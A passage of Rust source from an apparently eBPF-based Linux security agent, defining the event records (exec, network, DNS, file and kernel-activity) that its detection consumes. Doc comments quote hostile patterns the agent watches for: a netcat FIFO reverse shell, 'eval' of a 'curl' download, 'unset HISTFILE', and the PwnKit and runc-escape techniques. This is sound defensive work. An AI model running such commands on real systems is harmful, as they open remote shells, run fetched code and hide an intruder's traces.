//! The agent's events: kernel records decoded, resolved and made self-describing.
//!
//! These are plain data with `Serialize`, the form the agent prints as JSON lines and the form
//! detection consumes. Building them from records is pure (see [`crate::pipeline`] for the
//! state that enriches them).

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    path::{Path, PathBuf},
    time::{Duration, SystemTime, UNIX_EPOCH},
};

use node_agent_common::{
    DnsEvent, NetEvent, StreamEvent, TaskIdentity, decode::c_str, direction, dns_flags, exec_flags,
    family, kind, stream_flags,
};
use serde::Serialize;

use crate::{dns, exe_hash::Digest};

/// Converts the kernel's boot-time clock to wall-clock time.
#[derive(Clone, Copy, Debug)]
pub struct Clock {
    /// `CLOCK_REALTIME - CLOCK_BOOTTIME` at start-up, in ns.
    offset_ns: i128,
}

impl Clock {
    /// Reads both clocks now.
    pub fn now() -> Self {
        let read = |id| {
            let mut ts = libc::timespec {
                tv_sec: 0,
                tv_nsec: 0,
            };
            // SAFETY: a valid timespec pointer; both clock ids exist on Linux.
            unsafe { libc::clock_gettime(id, &mut ts) };
            ts.tv_sec as i128 * 1_000_000_000 + ts.tv_nsec as i128
        };
        Self {
            offset_ns: read(libc::CLOCK_REALTIME) - read(libc::CLOCK_BOOTTIME),
        }
    }

    /// A clock with a fixed offset, for tests and replays.
    pub fn with_offset(offset_ns: i128) -> Self {
        Self { offset_ns }
    }

    /// Wall-clock time of a kernel boot-time stamp.
    pub fn wall(&self, boot_ns: u64) -> SystemTime {
        let ns = (boot_ns as i128 + self.offset_ns).max(0);
        UNIX_EPOCH + Duration::from_nanos(ns as u64)
    }

    /// RFC 3339 UTC text of a kernel boot-time stamp, to the nanosecond
    /// (`2026-12-05T14:38:02.123456789Z`, as `humantime::format_rfc3339_nanos` writes it).
    pub fn rfc3339(&self, boot_ns: u64) -> String {
        let ns = (boot_ns as i128 + self.offset_ns).clamp(0, i128::from(u64::MAX)) as u64;
        rfc3339_nanos(ns)
    }
}

/// `ns` since the Unix epoch as RFC 3339 UTC text with nine fraction digits. Every record
/// carries one: the digits are written into a buffer, not through the formatting machinery.
fn rfc3339_nanos(ns: u64) -> String {
    let secs = ns / 1_000_000_000;
    let nanos = ns % 1_000_000_000;
    let of_day = secs % 86_400;
    // At most u64::MAX / 86,400e9 days: an i64 either way.
    let (year, month, day) = vigil_detection::stix::civil_from_days((secs / 86_400) as i64);
    let mut out = *b"0000-00-00T00:00:00.000000000Z";
    let mut put = |at: usize, width: usize, mut value: u64| {
        for i in (at..at + width).rev() {
            out[i] = b'0' + (value % 10) as u8;
            value /= 10;
        }
    };
    put(0, 4, year as u64);
    put(5, 2, u64::from(month));
    put(8, 2, u64::from(day));
    put(11, 2, of_day / 3_600);
    put(14, 2, of_day / 60 % 60);
    put(17, 2, of_day % 60);
    put(20, 9, nanos);
    // Digits and separators: always ASCII, so never the empty default.
    std::str::from_utf8(&out)
        .map(str::to_owned)
        .unwrap_or_default()
}

/// Who did it.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ProcessRef {
    /// Process id.
    pub pid: u32,
    /// Thread id.
    pub tid: u32,
    /// Parent process id.
    pub ppid: u32,
    /// Real uid.
    pub uid: u32,
    /// Real gid.
    pub gid: u32,
    /// Effective uid.
    pub euid: u32,
    /// Effective gid.
    pub egid: u32,
    /// `comm`.
    pub comm: String,
    /// cgroup v2 id.
    pub cgroup_id: u64,
    /// pid namespace inode.
    pub pid_ns: u32,
    /// mount namespace inode.
    pub mnt_ns: u32,
    /// Start time, ns since boot.
    pub start_time_ns: u64,
    /// Stable id of this process instance (see `proctable::process_uuid`); empty when unknown.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub uuid: String,
    /// The container it runs in, when its cgroup says so.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub container: Option<crate::container::Container>,
    /// Whether it shares the host's pid and mount namespaces.
    pub host_namespaces: bool,
}

impl From<&TaskIdentity> for ProcessRef {
    fn from(t: &TaskIdentity) -> Self {
        Self {
            pid: t.tgid,
            tid: t.pid,
            ppid: t.ppid,
            uid: t.uid,
            gid: t.gid,
            euid: t.euid,
            egid: t.egid,
            comm: lossy(c_str(&t.comm)),
            cgroup_id: t.cgroup_id,
            pid_ns: t.pid_ns,
            mnt_ns: t.mnt_ns,
            start_time_ns: t.start_time_ns,
            uuid: String::new(),
            container: None,
            host_namespaces: false,
        }
    }
}

/// One ancestor in a lineage.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Ancestor {
    /// Process id.
    pub pid: u32,
    /// Its parent.
    pub ppid: u32,
    /// `comm`.
    pub comm: String,
    /// Executable path, when known.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub exe: Option<PathBuf>,
    /// Stable process id.
    pub uuid: String,
}

/// A successful exec.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ExecInfo {
    /// Wall-clock time.
    pub time: String,
    /// The process after the exec.
    pub process: ProcessRef,
    /// The path given to exec, as given.
    pub filename: String,
    /// The executable as an absolute path (filename joined to cwd when relative).
    pub exe: PathBuf,
    /// Arguments.
    pub argv: Vec<String>,
    /// The argument vector was longer than the kernel keeps.
    pub argv_truncated: bool,
    /// With `argv_truncated`: `argv` is the vector's first bytes, then its last ones (the first
    /// and last arguments listed may be pieces of longer ones); the middle is left out.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub argv_tail: bool,
    /// Working directory; `None` when it could not be read.
    pub cwd: Option<PathBuf>,
    /// The working directory was deeper than the kernel walks.
    pub cwd_truncated: bool,
    /// Inode of the executable.
    pub exe_inode: u64,
    /// Device of the executable (user-space encoding, as `stat` gives it).
    pub exe_dev: u64,
    /// SHA-256 of the executable, when it could be read and was the file exec'd.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sha256: Option<Digest>,
    /// Why there is no hash.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sha256_error: Option<String>,
    /// Parent, grandparent, ... up to init.
    pub lineage: std::sync::Arc<[Ancestor]>,
    /// The executable is a memfd: nothing on disk (fileless execution).
    pub fileless: bool,
    /// The executable has no link left on disk.
    pub exe_deleted: bool,
    /// A container process whose root directory is the host's (it `chroot`ed into the host's
    /// filesystem mounted in the container; `ContainerResolver::runs_in_host_root`).
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub host_root: bool,
    /// Who wrote the executable since the agent started (a new binary).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub written_by: Option<Writer>,
    /// The executable changed (its `ctime`, which only the kernel sets) since the agent
    /// started, and inside its container's life for a container, but the kernel's
    /// written-files map, which had evicted entries by then, no longer says who wrote it: the
    /// time of the change. Set only when `written_by` is not.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub changed_untracked: Option<String>,
    /// For a shell or interpreter reading its program on standard input from a regular file
    /// (`sh < x.sh`): that file, by the path its descriptor holds (the process's
    /// `/proc/<pid>/fd/0`, checked against the device and inode the kernel recorded at exec;
    /// unknown once the process is gone).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub stdin_script: Option<PathBuf>,
    /// For a `#!` script exec'd, or a script handed to a shell or interpreter (`sh x.sh`), or
    /// the file on standard input of one that reads its program there (`sh < x.sh`): who
    /// wrote the script since the agent started, from the kernel's written-files map (looked up
    /// by the script's device and inode at exec).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub script_written_by: Option<Writer>,
    /// Standard streams (0, 1, 2) that are sockets, with their peers.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub stdio_sockets: Vec<StdioSocket>,
    /// What standard input is: `device` (a character device: a terminal, `/dev/null`), `pipe`,
    /// `file`, `socket` or `other`; a shell reading a pipe or a file runs a script. `None` when
    /// it is closed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub stdin: Option<&'static str>,
    /// The pipe on standard input (its inode number, shared by both ends), if it is one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub stdin_pipe: Option<u64>,
    /// The pipe on standard output, if it is one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub stdout_pipe: Option<u64>,
    /// Pipes inherited on file descriptors above 2 (process substitution's `/dev/fd/63`).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub fd_pipes: Vec<FdPipe>,
    /// For a filter writing into a pipe with no pipe on its standard input (`cat f | sh`): the
    /// named FIFO an operand names, by its inode number (the key pipes have), as the pipeline
    /// found it with `stat` at exec. What the filter passes on is what that FIFO's writer
    /// wrote (`cat f | sh -i 2>&1 | nc host port > f`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub input_fifo: Option<u64>,
    /// `LD_PRELOAD` from the environment.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ld_preload: Option<String>,
    /// `LD_AUDIT` from the environment.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ld_audit: Option<String>,
    /// `LD_AUDIT` was set beside `LD_PRELOAD`, whose value the kernel kept instead.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub ld_audit_unread: bool,
    /// `LD_LIBRARY_PATH` from the environment.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ld_library_path: Option<String>,
    /// The environment was longer than the kernel scans for `LD_*`.
    pub env_truncated: bool,
    /// `GLIBC_TUNABLES` is set in the environment.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub glibc_tunables: bool,
    /// The effective uid differs from the real uid (a setuid binary ran).
    pub setuid: bool,
    /// For a shell running a script file: the commands of the command substitutions its text
    /// hands to `eval` (`eval "$(curl -s URL)"`: `curl -s URL`), read at exec from the first
    /// 64 KiB of the script ([`crate::detect::evaluated_substitutions`]; at most four, 256
    /// bytes each).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub script_evals: Vec<String>,
    /// For a shell running a script file: the script's lines that a `scriptLines` command rule
    /// matches (`unset HISTFILE`, a builtin that execs nothing), read with
    /// [`Self::script_evals`] ([`crate::detect::RuleSet::script_lines_matching`]; at most four,
    /// 256 bytes each).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub script_lines: Vec<String>,
    /// The argument vector the kernel holds starts with an empty string: the program was
    /// exec'd with no arguments at all (`execve(path, {NULL}, envp)`, for which the kernel adds
    /// an empty `argv[0]`) or with an empty `argv[0]`. No shell or library does either; PwnKit
    /// (CVE-2021-4034) does it to `pkexec`.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub argv0_empty: bool,
    /// With `argv0_empty`: the executable's file has a setuid or setgid bit (read by the
    /// pipeline for such an exec alone).
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub exe_set_id: bool,
}

/// Who wrote a file.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Writer {
    /// Process id of the writer.
    pub pid: u32,
    /// Its real uid.
    pub uid: u32,
    /// Its `comm`.
    pub comm: String,
    /// When it opened the file for writing.
    pub time: String,
}

/// A pipe on an inherited file descriptor.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct FdPipe {
    /// The file descriptor.
    pub fd: u32,
    /// The pipe's inode number.
    pub pipe: u64,
}

/// A standard stream that is a socket.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct StdioSocket {
    /// 0, 1 or 2.
    pub fd: u8,
    /// `inet`, `inet6`, `unix`, or `unknown`.
    pub family: &'static str,
    /// The peer, for IP sockets.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub remote: Option<SocketAddr>,
}

/// A new process.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ForkInfo {
    /// Wall-clock time.
    pub time: String,
    /// The parent.
    pub process: ProcessRef,
    /// The child's process id.
    pub child_pid: u32,
}

/// A process ended.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ExitInfo {
    /// Wall-clock time.
    pub time: String,
    /// The process.
    pub process: ProcessRef,
    /// Exit status (`exit(n)`), when it exited normally.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub exit_status: Option<u32>,
    /// The signal that ended it, if any.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub signal: Option<u32>,
}

/// A connect or accept.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct NetInfo {
    /// Wall-clock time.
    pub time: String,
    /// The calling process.
    pub process: ProcessRef,
    /// The syscall's return (new fd for accept, 0 for connect, negative errno on failure).
    pub ret: i32,
    /// The error, when the call failed (`EINPROGRESS` for a non-blocking connect under way).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    /// The socket's fd (for accept, the new connection's: the returned one).
    pub fd: i32,
    /// `inet`, `inet6`, `unix`, or `unknown`.
    pub family: &'static str,
    /// `tcp`, `udp`, or `unknown`.
    pub protocol: &'static str,
    /// The remote address and port (IPv4 and IPv6).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub remote: Option<SocketAddr>,
    /// The unix socket path (abstract names start with `@`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub unix_path: Option<String>,
    /// Identical connections (same process, peer, port, protocol and result) counted in the
    /// kernel since the last record of this one and not sent on their own.
    #[serde(skip_serializing_if = "is_zero")]
    pub repeats: u32,
    /// How the handshake of a TCP connect that returned `EINPROGRESS` failed (`ECONNREFUSED`,
    /// `ETIMEDOUT`), as the socket holds it: known at the syscall's exit for an answer from
    /// this host, else in a later `connectOutcome` event when a reset refused it
    /// (`ECONNREFUSED`; a record there without an error reads `closed`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub outcome: Option<String>,
}

fn is_zero(n: &u32) -> bool {
    *n == 0
}

/// One of the first data segments of an outgoing TCP connection, whose payload started like a
/// JSON object (the stream sensor).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct StreamInfo {
    /// Wall-clock time.
    pub time: String,
    /// The process that sent the segment.
    pub process: ProcessRef,
    /// How it is known: `socketLock` (the task holding the socket's lock when the segment
    /// left), `earlierSegment` (the segment left from softirq; the sender of an earlier segment
    /// of the same socket), `unknown` (pid 0).
    pub sender: &'static str,
    /// The socket's cookie: the same for every segment of the connection.
    pub socket_cookie: u64,
    /// The local port.
    pub local_port: u16,
    /// The peer (an IPv4-mapped IPv6 peer as IPv4).
    pub remote: SocketAddr,
    /// Data segments the connection sent before this one.
    pub segment: u32,
    /// Bytes of payload in the segment.
    pub payload_len: u32,
    /// The first bytes of the payload. Not printed: it may be an API request's body with
    /// credentials; detection reports only what it recognised.
    #[serde(skip)]
    pub head: Vec<u8>,
    /// The payload was longer than the head kept.
    pub truncated: bool,
}

/// A DNS message.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct DnsInfo {
    /// Wall-clock time.
    pub time: String,
    /// The process that owns the socket.
    pub process: ProcessRef,
    /// `query` (sent) or `answer` (received).
    pub direction: &'static str,
    /// `udp` or `tcp`.
    pub protocol: &'static str,
    /// The resolver.
    pub resolver: SocketAddr,
    /// Query id.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub id: Option<u16>,
    /// Response code (`NOERROR`, `NXDOMAIN`, ...), for answers.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub rcode: Option<String>,
    /// The questions.
    pub questions: Vec<DnsQuestion>,
    /// The answers.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub answers: Vec<DnsAnswer>,
    /// The message was longer than the kernel keeps, or ended early.
    pub truncated: bool,
    /// Set when the kernel's table of DNS sockets no longer held the socket (a flood of other
    /// sockets aimed at port 53 evicted it): `sender`, the process is the task that sent the
    /// message; `unknown`, no task could be named and `process` has only the socket's cgroup
    /// (pid 0). Absent for a socket the table held.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub untracked: Option<&'static str>,
    /// Why the message could not be parsed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub parse_error: Option<String>,
}

/// A DNS question.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct DnsQuestion {
    /// Name, lower-case, no trailing dot.
    pub name: String,
    /// Type name (`A`, `AAAA`, ...).
    #[serde(rename = "type")]
    pub qtype: String,
}

/// A DNS answer record.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct DnsAnswer {
    /// Owner name.
    pub name: String,
    /// Type name.
    #[serde(rename = "type")]
    pub rtype: String,
    /// TTL in seconds.
    pub ttl: u32,
    /// The address (A, AAAA) or target name (CNAME); empty for other types.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub data: String,
}

/// A file operation on a sensitive path.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct FileInfo {
    /// Wall-clock time.
    pub time: String,
    /// The calling process.
    pub process: ProcessRef,
    /// `openWrite`, `rename`, `link`, `symlink`, `unlink`, `chmod`, `chown`, `openRead`
    /// (`/proc/<pid>/mem` only), `openScript` (a shell's read-only open of a file written by
    /// another process or on a memory-backed file system: `ret` is its fd) or `redirect` (that
    /// file, `inode`, then `dup2`ed by the same shell from fd `ret`: data, not a script).
    pub operation: &'static str,
    /// The path as the process gave it; for a change fanotify reported (`matchedBy: dirent`),
    /// the real path, or empty where fanotify does not know it (the old name of a file moved or
    /// linked in from a directory that is not watched).
    pub path: String,
    /// The path made absolute (against the process's cwd or dirfd), when that was possible.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub resolved_path: Option<PathBuf>,
    /// The second path (rename and link: the new name; symlink: the target).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub path2: Option<String>,
    /// The second path made absolute.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub resolved_path2: Option<PathBuf>,
    /// The syscall's return.
    pub ret: i64,
    /// The error, when it failed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    /// `open` flags (octal text, as in `fcntl.h`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub open_flags: Option<String>,
    /// The mode (octal text).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub mode: Option<String>,
    /// chown's owner and group (`None` for unchanged).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub owner: Option<(Option<u32>, Option<u32>)>,
    /// Inode opened (successful opens).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub inode: Option<u64>,
    /// Why the kernel kept it: `prefix`, `name`, `procMem`, `journal`, `setId` (a setuid or
    /// setgid mode asked for, anywhere); `dirent` for a change fanotify reported in a
    /// sensitive directory (`file_dirents`).
    pub matched_by: Vec<&'static str>,
    /// For `/proc/<pid>/mem`: the pid whose memory was opened.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub proc_mem_pid: Option<u32>,
    /// For a kernel setting under `/proc/sys` opened for writing: its value when the agent
    /// handled the record (read in user space, just after the write).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sysctl_value: Option<String>,
    /// For a kernel setting opened for writing through a procfs mounted somewhere other than
    /// `/proc` (the host's `/proc` bind-mounted into a container at `/host_proc`, CDK's
    /// mount-procfs): the setting's own path under `/proc/sys`, which `sysctl_value` is read
    /// from. The kernel's settings are the same whichever procfs mount reaches them.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sysctl_setting: Option<PathBuf>,
    /// An open for writing of a kernel setting while the `sysctl` hook runs: the hook's own
    /// record of each write (`sysctlWrite`, the value as written) is what the checks judge, not
    /// this open, whose value is read after the close and may have been put back by then.
    #[serde(skip)]
    pub sysctl_by_hook: bool,
    /// For a git configuration file written (`.gitconfig` in any directory, `/etc/gitconfig`),
    /// by an open for writing or a rename onto it: its text when the agent handled the record
    /// (read in user space once the writer closed it; the first 64 KiB).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub git_config: Option<String>,
    /// For a kernel settings file written (`/etc/sysctl.conf`, a `.conf` file of a `sysctl.d`
    /// directory), by an open for writing or a rename onto it: its text when the agent handled
    /// the record (read in user space once the writer closed it; the first 64 KiB). The kernel
    /// takes these settings at the next boot or `sysctl --system`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sysctl_file: Option<String>,
    /// For an account file (`/etc/passwd`, `/etc/shadow`, `/etc/group`) opened for writing, or
    /// a file renamed or linked over it: what the file grants, read back once the writer has
    /// closed it, that it did not grant when last read (uid 0, no password, an administrators'
    /// group; names only). `None` when nothing was granted. Read in user space: what the file
    /// holds, never what a command line says ([`crate::detect::accounts`]).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub accounts_changed: Option<crate::detect::accounts::AccountChanges>,
    /// For a chown of the password hashes (`/etc/shadow`, `/etc/gshadow`, their backups): the
    /// file's owner, group and mode once it returned, read in user space.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub hashes_owner: Option<HashesOwner>,
    /// For a file written, renamed or linked into a system program directory
    /// (`detect::technique::system_program_dir`): what is there once the writer has closed it
    /// (read in user space, the kernel records no content).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub program_written: Option<WrittenProgram>,
    /// A path was longer than the kernel keeps.
    pub truncated: bool,
    /// `openScript` (a shell's read-only open of a file another process wrote): who wrote it
    /// since the agent started, from the written-files map.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub written_by: Option<Writer>,
}

/// A program as it is after a write into a system program directory.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct WrittenProgram {
    /// `st_mode` (the setuid and setgid bits matter).
    pub mode: u32,
    /// The owner's uid (a setuid program runs as its owner).
    pub uid: u32,
    /// What its first bytes say it is.
    pub content: ProgramContent,
}

/// The password hashes' owner, group and mode read back after a chown of them, or their ACL
/// after one was set.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct HashesOwner {
    /// `st_mode`.
    pub mode: u32,
    /// The owner's uid.
    pub uid: u32,
    /// The group's gid.
    pub gid: u32,
    /// The group's name in the `/etc/group` the process sees, when it has one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub group: Option<String>,
    /// After an ACL was set: the entries of the file's access ACL, read back.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub acl: Vec<crate::detect::accounts::AclEntry>,
}

/// Whether `path` names the executable of the process that opens it: `/proc/self/exe`,
/// `/proc/thread-self/exe`, `/proc/PID/exe` (any number: the process that runs the script
/// is the one whose pid the attacker guessed or saw).
fn is_own_exe(path: &[u8]) -> bool {
    let Some(rest) = path.strip_prefix(b"/proc/") else {
        return false;
    };
    let Some(who) = rest.strip_suffix(b"/exe") else {
        return false;
    };
    who == b"self"
        || who == b"thread-self"
        || (!who.is_empty() && who.iter().all(u8::is_ascii_digit))
}

/// What a file's first bytes say it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub enum ProgramContent {
    /// `#!`: a script (a wrapper that logs what it is given and runs the real program).
    Script,
    /// `#!/proc/self/exe` (or `/proc/thread-self/exe`, `/proc/PID/exe`): a script whose
    /// interpreter is the executable of whichever process runs it. A container's program
    /// rewritten so makes the runtime's next `exec` into the container run the runtime's own
    /// binary again, as the interpreter, where the container can reach it (CVE-2019-5736's
    /// first step, Metasploit's `docker_runc_escape`).
    SelfExeScript,
    /// `\x7fELF`.
    Elf,
    /// Anything else, or empty.
    Other,
}

impl ProgramContent {
    /// From a file's first bytes.
    pub fn of(head: &[u8]) -> Self {
        if let Some(line) = head.strip_prefix(b"#!") {
            // The interpreter: the first word, as the kernel's script loader takes it.
            let word = line
                .iter()
                .position(|&b| b != b' ' && b != b'\t')
                .map_or(&[][..], |start| &line[start..]);
            let end = word
                .iter()
                .position(|&b| matches!(b, b' ' | b'\t' | b'\n' | b'\0'))
                .unwrap_or(word.len());
            if is_own_exe(&word[..end]) {
                Self::SelfExeScript
            } else {
                Self::Script
            }
        } else if head.starts_with(b"\x7fELF") {
            Self::Elf
        } else {
            Self::Other
        }
    }

    /// As the finding's context says it.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Script => "script",
            Self::SelfExeScript => "selfExeScript",
            Self::Elf => "elf",
            Self::Other => "other",
        }
    }
}

/// Kernel-level activity.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ActivityInfo {
    /// Wall-clock time.
    pub time: String,
    /// The calling process (ids as they are after the call).
    pub process: ProcessRef,
    /// `memfdCreate`, `ptrace`, `processVmWritev`, `userfaultfd`, `initModule`, `finitModule`,
    /// `mount`, `unshare`, `setns`, `setuid`, ..., `capset`, `dupSocket`, `libraryLoad`,
    /// `bpfAgent`, `signalAgent`, `signalGuarded`, `signalMiner`, `openByHandleAt`, `mknod`,
    /// `rename` (`prctl(PR_SET_NAME)`, a procfs comm file); and from the
    /// pipeline, not the kernel, `executableDeleted`
    /// (the process's binary, exec'd from a memory-backed or world-writable directory, has no
    /// link left: [`crate::deleted_exe`]).
    pub operation: &'static str,
    /// The syscall's return.
    pub ret: i64,
    /// The error, when it failed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    /// The other process (ptrace, process_vm_writev).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub target_pid: Option<u32>,
    /// The ptrace request (`PTRACE_ATTACH`, `PTRACE_TRACEME`, ...).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub request: Option<String>,
    /// memfd name, module or library file name, namespace file name, the name of the file
    /// opened by handle; the deleted executable's path; rename: the thread's name after the
    /// call, as the kernel holds it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// Flags argument (memfd, mount, unshare, setns).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub flags: Option<u64>,
    /// Namespaces named by unshare/setns flags.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub namespaces: Vec<&'static str>,
    /// mount source; rename: the thread's name before the call.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    /// mount target; the node mknod made (the path as given).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub target: Option<String>,
    /// openByHandleAt: the handle as the caller passed it (`type 1, 8 bytes: 0200000000000000`,
    /// the first eight bytes in hex).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub handle: Option<String>,
    /// mknod: the block device's number (`major:minor`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub device: Option<String>,
    /// mount file system type.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub fs_type: Option<String>,
    /// Inode of the file involved (module, library, namespace).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub inode: Option<u64>,
    /// Ids before a privilege change: uid, euid, gid, egid.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub before: Option<[u32; 4]>,
    /// The ids asked for (set*id arguments; `u32::MAX` means unchanged).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub requested: Vec<u32>,
    /// dup: the socket fd and the stdio fd it replaced.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub fds: Option<(u64, u64)>,
    /// dup: the socket's peer.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub socket: Option<StdioSocket>,
    /// libraryLoad: who wrote the mapped file.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub written_by: Option<Writer>,
    /// bpfAgent, signalAgent, signalGuarded, signalMiner: what was aimed at the agent, another
    /// security agent or a miner (boxed: rare, and the other
    /// operations should not pay for its room).
    #[serde(flatten)]
    pub aimed_at_agent: Option<Box<AimedAtAgent>>,
    /// setns: the host's namespaces the call joined (`mnt`, `pid`): the namespace's inode is
    /// the host's (for a pidfd, the process's mount namespace after a call that asked for
    /// it). Set by the pipeline, which knows the host's namespaces.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub host_namespaces_joined: Vec<&'static str>,
}

/// What a `bpfAgent` or `signalAgent` record says was aimed at the agent.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct AimedAtAgent {
    /// signalAgent, signalGuarded, signalMiner: the signal (`SIGSTOP`, `SIGTERM`, ...).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub signal: Option<String>,
    /// signalAgent, signalGuarded, signalMiner: `si_code` (0 `kill`, -6 `tgkill`, -1 `sigqueue`, 128 the
    /// kernel).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub signal_code: Option<i32>,
    /// bpfAgent: the `bpf(2)` command (`BPF_MAP_UPDATE_ELEM`, `BPF_LINK_DETACH`, ...).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub bpf_command: Option<String>,
    /// bpfAgent: the agent's object it was aimed at (`map 12`, `prog 40`, `link 7`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub bpf_object: Option<String>,
}

/// Every kind of event.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "camelCase")]
pub enum Event {
    /// A process replaced its image.
    Exec(Box<ExecInfo>),
    /// A new process.
    Fork(ForkInfo),
    /// A process ended.
    Exit(ExitInfo),
    /// `connect(2)` returned.
    Connect(NetInfo),
    /// The handshake of a non-blocking connect that returned `EINPROGRESS` failed later
    /// (`NetInfo::outcome`); the process is the one that called connect.
    ConnectOutcome(NetInfo),
    /// `accept(2)` returned.
    Accept(NetInfo),
    /// A DNS message.
    Dns(DnsInfo),
    /// The first bytes of an outgoing TCP connection that started like a JSON object.
    Stream(StreamInfo),
    /// A file operation on a sensitive path.
    File(FileInfo),
    /// Kernel-level activity.
    Activity(ActivityInfo),
}

impl Event {
    /// The acting process.
    pub fn process(&self) -> &ProcessRef {
        match self {
